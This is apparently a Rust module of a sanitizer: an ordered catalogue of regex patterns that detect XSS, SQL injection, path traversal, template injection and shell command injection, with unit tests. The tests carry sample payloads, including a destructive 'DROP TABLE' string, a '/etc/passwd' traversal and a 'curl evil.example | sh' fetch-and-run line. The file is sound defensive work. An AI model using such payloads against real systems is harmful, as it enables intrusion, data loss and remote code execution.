//! Threat pattern catalogue.
//!
//! The static, ordered list of known-dangerous input shapes the sanitizer
//! scans for. Order matters: patterns are applied sequentially, first to
//! last, and an earlier pattern's replacement can remove text a later
//! pattern would have matched. Regex strings are compiled once at
//! [`Sanitizer`](crate::simulation::Sanitizer) construction.
//!
//! The catalogue must stay compatible with the escaping step: no matcher
//! may fire on text introduced by HTML entities (`&lt;`, `&#x27;`, ...) or
//! by the placeholder token, otherwise re-sanitizing sanitized output would
//! report phantom threats.

use std::fmt;

use serde::Serialize;

/// How dangerous a matched pattern is considered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    High,
    Critical,
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::High => write!(f, "high"),
            Self::Critical => write!(f, "critical"),
        }
    }
}

/// A single detection pattern.
pub struct ThreatPattern {
    /// Unique snake_case identifier used in logs, metrics, and findings.
    pub name: &'static str,
    /// Human-readable description shown to the user.
    pub label: &'static str,
    /// Regex string, compiled by the sanitizer.
    pub pattern: &'static str,
    pub severity: Severity,
}

/// The built-in catalogue, in application order.
pub static THREAT_PATTERNS: &[ThreatPattern] = &[
    // ---- Cross-site scripting ------------------------------------------
    ThreatPattern {
        name: "script_element",
        label: "Script element injection (XSS)",
        pattern: r"(?is)<script\b[^>]*>.*?</script[^>]*>",
        severity: Severity::Critical,
    },
    ThreatPattern {
        name: "script_tag",
        label: "Stray script tag (XSS)",
        pattern: r"(?i)</?script\b[^>]*>",
        severity: Severity::High,
    },
    ThreatPattern {
        name: "event_handler",
        label: "Inline event handler (XSS)",
        pattern: r"(?i)\bon(?:error|load|click|mouseover|focus|submit)\s*=",
        severity: Severity::High,
    },
    ThreatPattern {
        name: "javascript_url",
        label: "javascript: URL (XSS)",
        pattern: r"(?i)javascript\s*:",
        severity: Severity::High,
    },
    // ---- SQL injection --------------------------------------------------
    ThreatPattern {
        name: "sql_union_select",
        label: "UNION-based SQL injection",
        pattern: r"(?i)\bunion\s+(?:all\s+)?select\b",
        severity: Severity::Critical,
    },
    ThreatPattern {
        name: "sql_tautology",
        label: "SQL tautology (always-true clause)",
        pattern: r"(?i)\b(?:or|and)\s+'?1'?\s*=\s*'?1\b",
        severity: Severity::Critical,
    },
    ThreatPattern {
        name: "sql_destructive",
        label: "Destructive SQL statement",
        pattern: r"(?i)\b(?:drop|truncate)\s+table\b|\bdelete\s+from\b",
        severity: Severity::Critical,
    },
    // ---- Path traversal --------------------------------------------------
    ThreatPattern {
        name: "path_traversal",
        label: "Path traversal sequence",
        pattern: r"\.\./",
        severity: Severity::High,
    },
    // ---- Template injection ----------------------------------------------
    ThreatPattern {
        name: "template_expression",
        label: "Template expression injection (SSTI)",
        pattern: r"\{\{.*?\}\}",
        severity: Severity::High,
    },
    // ---- Command injection -----------------------------------------------
    // Deliberately matches `$()` and backtick substitution rather than
    // `;`-separated commands: escaped output contains `;` inside HTML
    // entities and must never re-trigger a match.
    ThreatPattern {
        name: "command_substitution",
        label: "Shell command substitution",
        pattern: r"\$\([^)]*\)|`[^`]+`",
        severity: Severity::Critical,
    },
    ThreatPattern {
        name: "pipe_to_shell",
        label: "Pipe to shell interpreter",
        pattern: r"(?i)\|\s*(?:sh|bash|zsh)\b",
        severity: Severity::Critical,
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_patterns_compile() {
        for pat in THREAT_PATTERNS {
            regex::Regex::new(pat.pattern)
                .unwrap_or_else(|e| panic!("pattern '{}' failed to compile: {e}", pat.name));
        }
    }

    #[test]
    fn names_are_unique() {
        let mut seen = std::collections::HashSet::new();
        for pat in THREAT_PATTERNS {
            assert!(seen.insert(pat.name), "duplicate pattern name: {}", pat.name);
        }
    }

    #[test]
    fn each_pattern_matches_its_canonical_sample() {
        let samples = &[
            ("script_element", "<script>alert(1)</script>"),
            ("script_tag", "text </script> text"),
            ("event_handler", "<img src=x onerror=alert(1)>"),
            ("javascript_url", "<a href=\"javascript:alert(1)\">x</a>"),
            ("sql_union_select", "1 UNION SELECT password FROM users"),
            ("sql_tautology", "' OR '1'='1"),
            ("sql_destructive", "x'; DROP TABLE users"),
            ("path_traversal", "../../etc/passwd"),
            ("template_expression", "{{ 7 * 7 }}"),
            ("command_substitution", "$(whoami)"),
            ("pipe_to_shell", "curl evil.example | sh"),
        ];
        assert_eq!(samples.len(), THREAT_PATTERNS.len());
        for (name, sample) in samples {
            let pat = THREAT_PATTERNS
                .iter()
                .find(|p| p.name == *name)
                .unwrap_or_else(|| panic!("no pattern named {name}"));
            let re = regex::Regex::new(pat.pattern).unwrap();
            assert!(re.is_match(sample), "{name} should match {sample:?}");
        }
    }

    #[test]
    fn no_pattern_matches_escaped_entities_or_placeholder() {
        // Everything the escaping step can produce, plus the placeholder.
        let fixed_points = &[
            "&lt;div&gt; &quot;quoted&quot; &#x27;single&#x27; &lt;/div&gt;",
            crate::simulation::sanitizer::PLACEHOLDER,
        ];
        for text in fixed_points {
            for pat in THREAT_PATTERNS {
                let re = regex::Regex::new(pat.pattern).unwrap();
                assert!(
                    !re.is_match(text),
                    "{} must not match sanitizer output {text:?}",
                    pat.name
                );
            }
        }
    }
}
